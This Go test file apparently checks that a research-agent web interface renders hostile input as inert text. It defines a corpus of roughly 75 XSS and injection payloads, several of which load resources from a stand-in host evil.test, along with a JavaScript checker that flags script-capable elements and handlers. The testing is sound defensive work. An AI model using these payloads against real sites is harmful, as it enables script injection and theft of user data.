package browser

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/citewell/citewell"
	"github.com/citewell/citewell/internal/agent"
	"github.com/citewell/citewell/internal/evidence"
	"github.com/citewell/citewell/internal/job"
	"github.com/citewell/citewell/internal/runstore"
	"github.com/citewell/citewell/internal/tool"
)

// payloads are words that would run, load or leave where a page took them for anything else
// than words: elements, attributes, addresses, ends of what they stand in, styles, templates,
// and text that is not what it looks like. Each calls or loads something that a tab hears of.
var payloads = []string{
	// Elements that run or load.
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.test/a.js></sCrIpT>`, `<img src=x onerror=alert(1)>`,
	`<img src=http://evil.test/b.png>`, `<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<iframe src=javascript:alert(1)>`,
	`<iframe srcdoc="<script>parent.alert(1)</script>">`, `<object data=http://evil.test/c>`,
	`<embed src=javascript:alert(1)>`, `<video><source onerror=alert(1)>`,
	`<audio src=http://evil.test/d onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<math><mtext></p><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><img src=x onerror=alert(1)></template>`, `<dialog open onclose=alert(1)>`,
	`<a href=javascript:alert(1)>click</a>`, `<a href="http://evil.test/e" ping="http://evil.test/f">click</a>`,
	`<form action=http://evil.test/g><button>Check again</button></form>`,
	`<button formaction=javascript:alert(1)>Answer</button>`,
	`<link rel=stylesheet href=http://evil.test/h.css>`, `<link rel=prefetch href=http://evil.test/i>`,
	`<base href=http://evil.test/>`, `<meta http-equiv=refresh content="0;url=http://evil.test/j">`,
	`<style>@import "http://evil.test/k.css";</style>`, `<style>*{background:url(http://evil.test/l)}</style>`,
	`<div style="background:url(http://evil.test/m)">`, `<xss id=x tabindex=1 onfocus=alert(1)>`,
	// Ends of what they may stand in.
	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" autofocus onfocus=alert(1) x="`,
	`' onmouseover=alert(1) x='`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`, `</mark></div></aside><script>alert(1)</script>`, "`-alert(1)-`", `\"-alert(1)//`,
	`\u003cimg src=x onerror=alert(1)\u003e`,
	// Addresses, and Markdown that makes some.
	`javascript:alert(1)`, `JaVaScRiPt://%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
	`[click](javascript:alert(1))`, `![x](http://evil.test/n.png)`, `[x]: http://evil.test/o`, `<javascript:alert(1)>`,
	`<http://evil.test/p>`, `[1](http://evil.test/q)`,
	// Templates, entities, and text in disguise.
	`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `{{template "top" .}}`, `<%= alert(1) %>`,
	`#{alert(1)}`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, "<scr\u00adipt>alert(1)</scr\u00adipt>",
	`<<script>script>alert(1)<</script>/script>`,
}

// clean names what of a page is not ours: elements that run, load or lead away, handlers,
// addresses that run, and what a payload would have left behind.
const clean = `(() => {
	const wrong = [];
	for (const e of document.querySelectorAll('*')) {
		const name = e.localName;
		if (['img', 'iframe', 'object', 'embed', 'video', 'audio', 'base', 'style', 'template', 'math', 'marquee', 'xss', 'animate', 'image', 'foreignObject'].includes(name)) wrong.push(name);
		if (name === 'script' && new URL(e.src).origin !== location.origin || name === 'link' && new URL(e.href).origin !== location.origin) wrong.push(name + ' ' + (e.src || e.href));
		if (name === 'meta' && e.httpEquiv) wrong.push('meta ' + e.httpEquiv);
		for (const a of e.attributes) {
			if (/^on|^style$|^ping$|^srcdoc$|^formaction$/i.test(a.name)) wrong.push(name + '[' + a.name + ']');
			if (/^\s*(javascript|data|vbscript):/i.test(a.value) && ['href', 'src', 'action', 'xlink:href'].includes(a.name)) wrong.push(name + ' ' + a.value);
		}
		if (name === 'form' && new URL(e.action).origin !== location.origin) wrong.push('form ' + e.action);
		const to = name === 'a' && e.getAttribute('href');
		if (to && !/nofollow/.test(e.getAttribute('rel')) && new URL(to, location.href).origin !== location.origin) wrong.push('a ' + to);
	}
	return wrong;
})()`

// holds fails the test where a page has anything that is not ours, or a payload that is to
// be on it is not shown as words.
func (tab *Tab) holds(state string, shown []string) {
	tab.t.Helper()
	if wrong := Eval[[]string](tab, clean); len(wrong) > 0 {
		tab.t.Errorf("%s has %v", state, wrong)
	}
	if len(shown) == 0 {
		return
	}
	words := packed(Eval[string](tab,
		`[...document.querySelectorAll('details')].forEach(d => d.open = true) || document.body.innerText`))
	for _, p := range shown {
		if !strings.Contains(words, packed(p)) && !strings.Contains(words,
			packed(strings.ReplaceAll(p, "\u00ad", ""))) {
			tab.t.Errorf("%s does not show %q", state, p)
		}
	}
}

// sentence is a payload in words of its own that no other sentence has.
func sentence(i int, payload string) string {
	return fmt.Sprintf("Line %d of the ledger of Lowmere has the words %s and a seal in red wax.", 100+i, payload)
}

// A corpus of hostile words in titles, snippets, passages, addresses, names of files, a
// task, a question to the user, a plan, a report and what is asked of pages: read through
// the real server, nothing of it runs, loads or leads away, and all of it is shown as words.
func TestHostileWords(t *testing.T) {
	t.Parallel()
	if len(payloads) < 60 {
		t.Fatalf("the corpus has %d payloads", len(payloads))
	}
	st := story{title: "Report " + payloads[0] + payloads[36], asks: payloads[:12],
		task: "What is written in the ledger: " + strings.Join(payloads[:20], " ") + "?"}
	var content strings.Builder
	const on = 9 // payloads of a page
	for from := 0; from < len(payloads); from += on {
		some := payloads[from:min(from+on, len(payloads))]
		p := told{key: fmt.Sprintf("k%d", from), path: "/" + url.PathEscape(some[0]) + "?q=" + url.QueryEscape(some[1]),
			lang: `en" onload="alert(1)`, title: "Ledger " + some[0] + some[len(some)-1],
			snippet: strings.Join(some, " ")}
		for i, payload := range some {
			p.paragraphs = append(p.paragraphs, sentence(from+i, payload))
			fmt.Fprintf(&content, "- %s {%s}\n", sentence(from+i, payload), p.key)
		}
		st.pages = append(st.pages, p)
	}
	st.content = content.String()
	s := serveStories(t, st)
	attachments := []map[string]string{}
	for _, name := range payloads {
		if !strings.ContainsAny(name, `/\`) {
			attachments = append(attachments, map[string]string{"filename": name + ".txt",
				"text": "The file says " + name})
		}
	}
	run := s.begins(st, map[string]any{"attachments": attachments[:8]})
	tab := Open(t, Options{})
	tab.Goto(s.URL + "/runs/" + run)
	tab.WaitVisible("#answer")
	tab.holds("the question", st.asks)
	tab.Screenshot("question")
	tab.Type("#answer", payloads[2])
	tab.Press("Tab", "Enter")
	run = tab.ended()
	r := s.reportOf(run)
	if len(r.Findings) < len(payloads)*3/4 {
		t.Errorf("%d of %d sentences are findings", len(r.Findings), len(payloads))
	}
	tab.holds("the report", append([]string{st.title, st.task}, payloadsIn(r)...))
	tab.Screenshot("report")
	for k := range 12 { // by script, each part put into the page that is there
		Eval[any](tab, fmt.Sprintf(`document.querySelector('#report a.mark[href$="/c/%d#cite"]').click()`, 5*k+1))
		tab.WaitFor(fmt.Sprintf(`document.querySelector('.pane-in')?.dataset.k === '%d'`, 5*k+1))
		tab.holds("a pane", nil)
	}
	texts := ""
	for _, source := range r.Sources {
		tab.Goto(fmt.Sprintf("%s/runs/%s/s/%d", s.URL, run, source.N))
		var kept evidence.Text
		s.api("GET", fmt.Sprintf("/v1/runs/%s/sources/%d/text", run, source.N), &kept)
		tab.holds("a source", []string{source.Title})
		if words := Eval[string](tab,
			`(e => { e.querySelectorAll('a.mark').forEach(a => a.remove()); return e.textContent })(document.querySelector('.words').cloneNode(true))`); words != kept.Text {
			t.Errorf("source %d is shown as %q, and is %q", source.N, words, kept.Text)
		}
		texts += kept.Text
	}
	for _, p := range payloads {
		if !strings.Contains(packed(texts), packed(p)) && !strings.Contains(packed(texts),
			packed(strings.ReplaceAll(p, "\u00ad", ""))) {
			t.Errorf("%q was not read as words of any page", p)
		}
	}
	for _, path := range []string{"/log", "/map", "/time"} {
		tab.Goto(s.URL + "/runs/" + run + path)
		tab.holds(path, nil)
		tab.Screenshot(strings.Trim(path, "/"))
	}
	tab.Goto(s.URL + "/runs")
	tab.holds("runs", []string{st.task})
	tab.Goto(s.URL + "/compare?a=" + run + "&b=" + run)
	tab.holds("compare", nil)
	tab.Expect("status of 4") // what cannot be found, or asked so
	for i := 0; i+4 <= len(payloads); i += 4 {
		some := payloads[i : i+4]
		tab.Goto(s.URL + "/runs?" + url.Values{"q": {some[0]}, "state": {some[1]}, "agent": {some[2]},
			"since": {some[3]}}.Encode())
		tab.holds("what is looked for", nil)
		if asked := Eval[string](tab, `document.querySelector('input[name=q]').value`); asked != some[0] {
			t.Errorf("words that are looked for come back as %q, not %q", asked, some[0])
		}
	}
	for i := 0; i < len(payloads); i += 6 {
		tab.Goto(s.URL + "/runs/" + url.PathEscape(payloads[i]))
		tab.holds("an address", nil)
		question := strings.Join(payloads[i:i+6], "\n")
		tab.Goto(s.URL + "/?q=" + url.QueryEscape(question))
		tab.holds("a question", nil)
		if asked := Eval[string](tab, `document.getElementById('question').value`); asked != question {
			t.Errorf("a question comes back as %q, not %q", asked, question)
		}
	}
	export := pages(t, nil, map[string]string{"/": string(s.fetch("/v1/runs/" + run + "/report?format=html")),
		"/favicon.ico": ""})
	tab.Goto(export + "/")
	// its own
	if wrong := Eval[[]string](tab, clean); !slices.Equal(wrong, []string{"meta Content-Security-Policy", "style"}) {
		t.Errorf("the export has %v", wrong)
	}
}

// The same words where a model, a provider or a server of tools says them while a run goes on:
// a call that is to be allowed, with its arguments; what became of searches and pages; what
// tools gave, by names of files among them; and why the run failed.
func TestHostileNews(t *testing.T) {
	t.Parallel()
	s := Serve(t, "serve", "--set", "search.providers.duckduckgo.enabled=false")
	runs, lease := s.seed("What do hostile parts say?")
	var events []runstore.RunEvent
	happens := func(kind string, data any) {
		said, err := json.Marshal(data)
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, runstore.RunEvent{Type: kind, Data: said})
	}
	for i, p := range payloads {
		happens("call", job.Entry{Iteration: i, CallID: p, Name: p, Text: p})
		happens("result", job.Entry{Iteration: i, Name: p, Text: p})
		happens("result", job.Entry{Iteration: i, Name: "web_search_tool",
			Search: &agent.Searched{Query: p, Providers: []citewell.ProviderReport{
				{Name: "engine " + p, Outcome: citewell.ProviderOutcome("failed " + p), Detail: p},
				{Name: "other", Outcome: citewell.ProviderFailed, Detail: p}}, Hits: []agent.Hit{{Title: p, URL: p}}}})
		happens("fetch", job.Entry{Iteration: i, Fetch: &agent.Fetched{
			N: i, URL: p, Outcome: citewell.FetchOutcome("refused " + p)}})
		happens("fetch", job.Entry{Iteration: i, Fetch: &agent.Fetched{
			N: i, URL: "http://site.example/", FinalURL: p, Outcome: citewell.FetchOK}})
		happens("source", job.Entry{Iteration: i, Name: "tool:wiki?" + p, Text: "wiki(" + p + ")", Number: 2*i + 1})
		happens("source", job.Entry{Iteration: i, Name: "file:///home/u/" + p + ".txt", Text: p + ".txt",
			Number: 2*i + 2})
		for _, kind := range []string{"rejected", "model_failed", job.EventWarning, job.EventPutOff, "over", "kept"} {
			happens(kind, job.Entry{Iteration: i, Name: p, Text: p})
		}
	}
	for from := 0; from < len(events); from += 200 {
		if _, err := runs.AppendEvents(t.Context(), lease, events[from:min(from+200, len(events))]); err != nil {
			t.Fatal(err)
		}
	}
	asks := func(n int, p string, arguments map[string]string) {
		t.Helper()
		q, err := json.Marshal(agent.Question{Run: lease.Run, Key: fmt.Sprintf("confirm %d %s", n, p),
			Kind: "confirmation", Tool: "tool " + p, Why: "because " + p, Arguments: tool.MustMarshal(arguments)})
		if err == nil {
			_, err = runs.AppendEvents(t.Context(), lease, []runstore.RunEvent{{Type: job.EventQuestion, Data: q}})
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	asks(0, payloads[0], nil)
	if err := runs.ChangeState(t.Context(), lease, runstore.RunChange{State: runstore.RunWaiting, Detail: payloads[0]},
		nil); err != nil {
		t.Fatal(err)
	}
	tab := Open(t, Options{})
	tab.Goto(s.URL + "/runs/" + lease.Run)
	tab.WaitVisible(".question")
	tab.holds("news", payloads)
	for n := 0; n < len(payloads); n += 6 {
		some := map[string]string{}
		for _, p := range payloads[n : n+6] {
			some[p] = p
		}
		p := strings.Join(payloads[n:n+6], " ")
		asks(n+1, p, some)
		// which comes by script
		tab.WaitFor(fmt.Sprintf(`document.querySelector('.question strong')?.textContent === %q`, "tool "+p))
		tab.holds("a confirmation", nil)
		said, arguments := Eval[string](tab, `document.querySelector('.question pre').textContent`), map[string]string{}
		if err := json.Unmarshal([]byte(said), &arguments); err != nil || !maps.Equal(arguments, some) ||
			strings.Contains(said, `\u003c`) && !strings.Contains(p, `\u003c`) {
			t.Errorf("the arguments %q are shown as %s: %v", p, said, err)
		}
		if said := tab.Text(".question"); !strings.Contains(packed(said), packed("because "+p)) {
			t.Errorf("why is shown as %q", said)
		}
	}
	tab.Axe("a hostile confirmation")
	if err := runs.ChangeState(t.Context(), lease, runstore.RunChange{
		State: runstore.RunError, Outcome: runstore.RunModelFailed, Detail: strings.Join(payloads, " ")},
		nil); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"", "/log", "/map", "/time"} {
		tab.Goto(s.URL + "/runs/" + lease.Run + path)
		tab.holds("a failed run's page "+path, nil)
	}
}

// payloadsIn are those of the corpus that a report has in its findings.
func payloadsIn(r citewell.Report) (all []string) {
	for _, p := range payloads {
		for _, f := range r.Findings {
			if strings.Contains(f.Text, p) {
				all = append(all, p)
				break
			}
		}
	}
	return all
}
